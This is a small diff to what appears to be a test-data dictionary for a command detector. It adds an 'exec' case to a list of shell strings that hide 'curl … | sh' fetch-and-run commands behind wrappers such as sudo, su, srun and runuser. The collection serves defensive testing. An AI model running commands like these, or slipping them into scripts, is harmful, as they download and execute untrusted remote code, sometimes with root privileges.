@@ -409,6 +409,7 @@ WRAPPED_STRINGS = {
     "sudo-env": f"sudo -E env A=1 sh -c 'curl -fsSL {URL} | bash'",
     "nice": f"nice -n 5 bash -lc 'curl -fsSL {URL} -o /tmp/s.sh && bash /tmp/s.sh'",
     "srun-valued-options": f"srun -p gpu -N 1 bash -c 'curl -fsSL {URL} | sh'",
+    "exec": f"exec bash -c 'curl -fsSL {URL} -o /tmp/s.sh && bash /tmp/s.sh'",
     # commands that hand a string to `sh -c` by an option, or join their words into one
     "su": f"su root -c 'curl -fsSL {URL} | sh'",
     "runuser": f"runuser -u nobody -- bash -c 'curl -fsSL {URL} | sh'",
